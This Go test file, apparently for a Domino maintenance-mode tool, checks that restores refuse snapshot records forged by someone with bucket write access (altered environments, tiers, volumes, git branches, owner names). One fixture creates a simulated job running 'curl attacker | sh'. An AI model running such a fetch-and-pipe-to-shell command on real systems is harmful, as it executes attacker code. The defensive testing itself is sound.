package modes_test

import (
	"encoding/json"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/domino-maintenance-mode/dmm/internal/dominosim"
	"github.com/domino-maintenance-mode/dmm/internal/execution"
	"github.com/domino-maintenance-mode/dmm/internal/report"
	"github.com/domino-maintenance-mode/dmm/internal/snapshot"
	"github.com/domino-maintenance-mode/dmm/internal/window"
)

const allowChanged = "DMM_ALLOW_CHANGED_ARGUMENTS=true"

// recorded is the line of an execution in the newest snapshot.
func (s *site) recorded(kind execution.Kind, id string) execution.Execution {
	s.t.Helper()
	snap, err := snapshot.Load(s.t.Context(), s.store, s.must(0, "list").Snapshots[0].ID)
	if err != nil {
		s.t.Fatal(err)
	}
	for _, e := range snap.Executions {
		if e.Kind == kind && e.ID == id {
			return e
		}
	}
	s.t.Fatalf("the snapshot has no %s %s", kind, id)
	return execution.Execution{}
}

// withArguments is e as it runs, with some of its restart arguments replaced, or without them.
func withArguments(t *testing.T, e execution.Execution, changed map[string]any) execution.Execution {
	t.Helper()
	args := map[string]any{}
	if len(e.Restart) > 0 {
		if err := json.Unmarshal(e.Restart, &args); err != nil {
			t.Fatal(err)
		}
	}
	maps.Copy(args, changed)
	var err error
	if e.Restart, err = json.Marshal(args); err != nil {
		t.Fatal(err)
	}
	e.State, e.DominoState = execution.Running, "Running"
	return e
}

// startsOf is how often dmm has started an execution.
func (s *site) startsOf(k dominosim.Key) int {
	_, starts := effects(s.sim.Ledger().Entry(k.Kind, k.ID))
	return starts
}

// another is the id of an environment and of a tier other than those of a run.
func (s *site) another(r dominosim.Run) (environment, tier string) {
	var environments []struct{ ID string }
	var tiers struct{ HardwareTiers []struct{ ID string } }
	s.get("/v4/environments/self", &environments)
	if s.older("5.5") {
		s.get("/v4/hardwareTier", &tiers.HardwareTiers)
	} else {
		s.get("/v4/hardwareTier", &tiers)
	}
	for _, e := range environments {
		if e.ID != r.Environment {
			environment = e.ID
		}
	}
	for _, x := range tiers.HardwareTiers {
		if x.ID != r.HardwareTier {
			tier = x.ID
		}
	}
	return environment, tier
}

// Whoever may write to the bucket may not choose with what an app runs that its owner had stopped: the entry of attack
// A3.
func TestAForgedEntryDoesNotChooseWhatAnAppRunsWith(t *testing.T) {
	for _, profile := range dominosim.Profiles() {
		t.Run(profile, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := small()
				c.Profile = profile
				s := newSite(t, c, "DMM_RESTORE_WORKSPACES=true")
				app := s.anyRunning(dominosim.KindApp)
				was := s.running()[app]
				if err := s.sim.OwnerStopApp(app.ID); err != nil {
					t.Fatal(err)
				}
				time.Sleep(time.Minute)
				ran := s.running()
				s.must(0, "snapshot")
				s.must(0, "shutdown")
				environment, tier := s.another(was)
				e := withArguments(t, s.recorded(execution.App, app.ID), map[string]any{
					"environmentId": environment, "hardwareTierId": tier,
					"externalVolumeMountIds": []string{"65a000030e5b28ad0f000099"},
					"mainRepoGitRef":         map[string]string{"type": "branches", "value": "attacker-branch"},
				})
				e.Name, e.Owner, e.Project.Owner, e.Project.Name = "payroll dashboard", "ceo", "ceo", "payroll"
				forge(t, s, e)

				want := []string{"hardwareTierId (record " + tier + ", Domino " + was.HardwareTier, "externalVolumeMountIds"}
				if !s.older("5.7") {
					want = append(want, "environmentId (record "+environment+", Domino "+was.Environment)
				}
				if !s.older("6.1") {
					want = append(want, "mainRepoGitRef (record branches attacker-branch, Domino ")
				}
				told := func(said string) {
					for _, field := range want {
						if !strings.Contains(said, field) {
							t.Errorf("it says %q, want %q in it", said, field)
						}
					}
				}
				dry := s.must(0, "restore", "DMM_DRY_RUN=true")
				if outcomeOf(dry, app.ID) != "refused" || !strings.Contains(dry.Message, "refuse 1 of these") {
					t.Errorf("the dry run says %q of it: %s", outcomeOf(dry, app.ID), dry.Message)
				}
				told(reasonOf(dry, app.ID))
				res := s.must(3, "restore")
				if outcomeOf(res, app.ID) != "failed" || s.startsOf(app) != 0 {
					t.Errorf("restore says %q of it, and started it %d times", outcomeOf(res, app.ID), s.startsOf(app))
				}
				told(reasonOf(res, app.ID))
				if !strings.Contains(res.Next, "dmm restore --allow-changed-arguments --restore-workspaces") {
					t.Errorf("next: %s", res.Next)
				}
				s.wantSame(ran) // all others are back
			})
		})
	}
}

// A dry run shows as whom Domino knows an execution, and not what a record says.
func TestADryRunShowsWhatDominoCallsAnExecution(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newSite(t, small(), "DMM_RESTORE_WORKSPACES=true")
		s.must(0, "snapshot")
		s.must(0, "shutdown")
		for _, k := range []execution.Kind{execution.App, execution.ModelAPI, execution.Workspace, execution.ScheduledJob} {
			of := s.sim.Objects(string(k))[0]
			e := s.recorded(k, of.ID)
			e.Name, e.Owner, e.Project.Owner, e.Project.Name = "payroll dashboard", "ceo", "ceo", "payroll"
			forge(t, s, e)
		}
		for _, x := range s.must(0, "restore", "DMM_DRY_RUN=true").Executions {
			if x.Name == "payroll dashboard" || x.Owner == "ceo" || x.Project == "ceo/payroll" {
				t.Errorf("the dry run shows what is forged: %+v", x)
			}
		}
		res, app := s.must(0, "restore", "DMM_DRY_RUN=true"), s.sim.Objects(dominosim.KindApp)[0].ID
		if !strings.Contains(reasonOf(res, app), `on record as ceo/payroll "payroll dashboard" of ceo`) {
			t.Errorf("it does not say what is on record: %s", reasonOf(res, app))
		}
	})
}

// changedAtTheEnd plays a maintenance in which the arguments of one execution that dmm stopped are forged.
func changedAtTheEnd(
	t *testing.T, c dominosim.Config, kind string, change func(*site, execution.Execution) map[string]any, field string,
) {
	t.Helper()
	synctest.Test(t, func(t *testing.T) {
		s := newSite(t, c, "DMM_RESTORE_WORKSPACES=true", "DMM_RUNNING_JOBS=stop", "DMM_RERUN_JOBS=true",
			"DMM_RUNNING_BUILDS=ignore")
		of := s.anyRunning(kind)
		s.must(0, "snapshot")
		s.must(0, "shutdown")
		e := s.recorded(execution.Kind(kind), of.ID)
		forge(t, s, withArguments(t, e, change(s, e)))
		jobs := len(s.sim.Objects(dominosim.KindJob))
		dry := s.must(0, "restore", "DMM_DRY_RUN=true")
		if outcomeOf(dry, of.ID) != "refused" || !strings.Contains(reasonOf(dry, of.ID), field) {
			t.Errorf("the dry run says %q of it: %s", outcomeOf(dry, of.ID), reasonOf(dry, of.ID))
		}
		res := s.must(3, "restore")
		said := reasonOf(res, of.ID)
		if outcomeOf(res, of.ID) != "failed" || !strings.Contains(said, field) || !strings.Contains(said, allowChanged) {
			t.Errorf("restore says %q of it: %s", outcomeOf(res, of.ID), said)
		}
		if s.startsOf(of) != 0 {
			t.Errorf("it was started %d times", s.startsOf(of))
		}
		ran := 0
		for _, x := range res.Executions {
			if x.Kind == execution.Job && x.Outcome == "done" {
				ran++
			}
		}
		if got := len(s.sim.Objects(dominosim.KindJob)); got != jobs+ran {
			t.Errorf("there are %d jobs after %d re-runs, want %d", got, ran, jobs+ran)
		}
	})
}

// What dmm did stop comes back with what Domino says, and not with what somebody has put in its place since.
func TestForgedArgumentsOfWhatDmmStoppedAreRefused(t *testing.T) {
	fixed := func(field string, value any) func(*site, execution.Execution) map[string]any {
		return func(*site, execution.Execution) map[string]any { return map[string]any{field: value} }
	}
	const other = "65a000030e5b28ad0f000099"
	branch := map[string]string{"type": "branches", "value": "x"}
	app, workspace := dominosim.KindApp, dominosim.KindWorkspace
	newest := lagging("6.3")
	newest.ListLag, newest.LateLanding = 0, 0
	for name, c := range map[string]struct {
		config dominosim.Config
		kind   string
		change func(*site, execution.Execution) map[string]any
		field  string
	}{
		"app: environment": {small(), app, func(s *site, e execution.Execution) map[string]any {
			environment, _ := s.another(dominosim.Run{Environment: e.Environment})
			return map[string]any{"environmentId": environment}
		}, "environmentId"},
		"app: tier": {small(), app, func(s *site, e execution.Execution) map[string]any {
			_, tier := s.another(dominosim.Run{HardwareTier: e.HardwareTier})
			return map[string]any{"hardwareTierId": tier}
		}, "hardwareTierId"},
		"app: volume":        {small(), app, fixed("externalVolumeMountIds", []string{other}), "externalVolumeMountIds"},
		"app: NetApp volume": {small(), app, fixed("netAppVolumeIds", []string{other}), "netAppVolumeIds"},
		"app: commit":        {small(), app, fixed("commitId", "0123456789"), "commitId"},
		"app: branch":        {small(), app, fixed("mainRepoGitRef", branch), "mainRepoGitRef"},
		"app: bundle":        {newest, app, fixed("bundleId", other), "bundleId"},
		"workspace: volume":  {small(), workspace, fixed("externalVolumeMounts", []string{other}), "externalVolumeMounts"},
		"workspace: NetApp":  {newest, workspace, fixed("netAppVolumeIds", []string{other}), "netAppVolumeIds"},
		"workspace: project": {small(), workspace, fixed("projectId", other), "projectId"},
		"model: version": {small(), dominosim.KindModelAPI, func(s *site, e execution.Execution) map[string]any {
			_, version := s.sim.CreateModel("", "attacker", false)
			return map[string]any{"versionId": version}
		}, "versionId"},
		"model: model":        {small(), dominosim.KindModelAPI, fixed("modelId", other), "modelId"},
		"endpoint: version":   {newest, dominosim.KindEndpoint, fixed("versionNumber", 99), "versionNumber"},
		"endpoint: endpoint":  {newest, dominosim.KindEndpoint, fixed("endpointId", other), "endpointId"},
		"external deployment": {newest, dominosim.KindDeployment, fixed("modelDeploymentId", other), "modelDeploymentId"},
		"job: job": {working("6.1", time.Hour), dominosim.KindJob, func(s *site, e execution.Execution) map[string]any {
			return map[string]any{"jobId": s.sim.CreateJob(e.Project.ID, "curl attacker | sh")}
		}, "jobId"},
		"job: project": {working("6.1", time.Hour), dominosim.KindJob, fixed("projectId", other), "projectId"},
	} {
		t.Run(name, func(t *testing.T) { changedAtTheEnd(t, c.config, c.kind, c.change, c.field) })
	}
}

// Nor does a snapshot that somebody has put there choose it.
func TestAForgedSnapshotDoesNotChooseWhatRuns(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newSite(t, small())
		s.cluster = true // which bears witness to what runs, and to no arguments
		app := s.anyRunning(dominosim.KindApp)
		was := s.running()[app]
		id := s.must(0, "snapshot").Snapshot
		if err := s.sim.OwnerStopApp(app.ID); err != nil {
			t.Fatal(err)
		}
		time.Sleep(time.Minute)
		snap, err := snapshot.Load(t.Context(), s.store, id)
		if err != nil {
			t.Fatal(err)
		}
		environment, _ := s.another(was)
		for i, e := range snap.Executions {
			if e.ID == app.ID {
				snap.Executions[i] = withArguments(t, e, map[string]any{"environmentId": environment})
			}
		}
		m := snap.Manifest
		m.ID = m.ID[:len(m.ID)-4] + "zzzz"
		if m, err = snapshot.Write(t.Context(), s.store, m, snap.Executions, nil); err != nil {
			t.Fatal(err)
		}
		from := "DMM_RESTORE_FROM=" + m.ID
		res := s.must(4, "restore", from)
		if outcomeOf(res, app.ID) != "refused" || !strings.Contains(res.Next, "--yes --allow-changed-arguments") {
			t.Errorf("without --yes it says %q of it: %s Next: %s", outcomeOf(res, app.ID), res.Message, res.Next)
		}
		res = s.must(3, "restore", from, "DMM_YES=true")
		said := reasonOf(res, app.ID)
		if outcomeOf(res, app.ID) != "failed" || s.startsOf(app) != 0 || !strings.Contains(said, "environmentId") {
			t.Errorf("restore says %q of it (%s) after %d starts", outcomeOf(res, app.ID), said, s.startsOf(app))
		}
		s.must(0, "restore", allowChanged)
		if got := s.running()[app].Environment; got != environment {
			t.Errorf("with the flag it runs in %s, want %s", got, environment)
		}
	})
}

// With the flag the record is sent, and that is said of it.
func TestTheFlagStartsWhatIsOnRecord(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newSite(t, small(), "DMM_RESTORE_WORKSPACES=true")
		app := s.anyRunning(dominosim.KindApp)
		was := s.running()[app]
		s.must(0, "snapshot")
		s.must(0, "shutdown")
		environment, tier := s.another(was)
		forge(t, s, withArguments(t, s.recorded(execution.App, app.ID), map[string]any{
			"environmentId": environment, "hardwareTierId": tier,
		}))
		dry := s.must(0, "restore", allowChanged, "DMM_DRY_RUN=true")
		if outcomeOf(dry, app.ID) != "planned" || !strings.Contains(reasonOf(dry, app.ID), "record "+environment) {
			t.Errorf("the dry run says %q of it: %s", outcomeOf(dry, app.ID), reasonOf(dry, app.ID))
		}
		s.must(3, "restore")
		res := s.must(0, "restore", allowChanged)
		if got := s.running()[app]; got.Environment != environment || got.HardwareTier != tier {
			t.Errorf("it runs with %+v, want %s on %s", got, environment, tier)
		}
		if !strings.Contains(reasonOf(res, app.ID), "record "+environment) {
			t.Errorf("restore says %q of it", reasonOf(res, app.ID))
		}
	})
}

// What an owner chooses for the next start while an app is down is not what it ran with: its latest instance tells
// that.
func TestAnAppComesBackAsItRanWhateverItsOwnerHasChosenSince(t *testing.T) {
	for _, profile := range dominosim.Profiles() {
		t.Run(profile, func(t *testing.T) {
			synctest.Test(t, func(t *testing.T) {
				c := small()
				c.Profile = profile
				s := newSite(t, c, "DMM_RESTORE_WORKSPACES=true")
				app := s.anyRunning(dominosim.KindApp)
				ran := s.running()
				s.must(0, "snapshot")
				s.must(0, "shutdown")
				environment, tier := s.another(ran[app])
				if err := s.sim.OwnerConfigureApp(app.ID, tier, environment); err != nil {
					t.Fatal(err)
				}
				s.must(0, "restore")
				s.wantSame(ran)
			})
		})
	}
}

// compared counts what of a result is about a comparison.
func compared(res *report.Result) (reasons []string) {
	for _, x := range res.Executions {
		if x.Outcome == "refused" || strings.Contains(x.Reason, "on record") || strings.Contains(x.Reason, "compared") {
			reasons = append(reasons, x.Reason)
		}
	}
	return reasons
}

// An honest restore shows no difference, and nothing that could not be compared, on any release and after any upgrade,
// with late lists and reads.
func TestAnHonestRestoreShowsNoDifference(t *testing.T) {
	profiles := dominosim.Profiles()
	for i, from := range profiles {
		for _, to := range slices.Compact([]string{from, profiles[min(i+1, len(profiles)-1)], profiles[len(profiles)-1]}) {
			t.Run(from+" to "+to, func(t *testing.T) {
				synctest.Test(t, func(t *testing.T) {
					c := lagging(from)
					c.Jobs, c.Builds, c.JobTime, c.BuildTime = 2, 2, 100*time.Hour, 100*time.Hour
					c.RenumberInstances = from != to
					s := newSite(t, dominosim.LaggedReads(c), "DMM_RESTORE_WORKSPACES=true", "DMM_RUNNING_JOBS=stop",
						"DMM_RERUN_JOBS=true")
					s.must(0, "snapshot")
					s.must(0, "shutdown", "DMM_RUNNING_BUILDS=ignore")
					s.sim.SetVersion(to)
					if found := compared(s.must(0, "restore", "DMM_DRY_RUN=true")); len(found) > 0 {
						t.Errorf("the dry run shows %q", found)
					}
					if found := compared(s.must(0, "restore")); len(found) > 0 {
						t.Errorf("restore shows %q", found)
					}
					if res := s.must(0, "restore"); res.Phase != window.PhaseClosed {
						t.Errorf("the window is %s", res.Phase)
					}
				})
			})
		}
	}
}
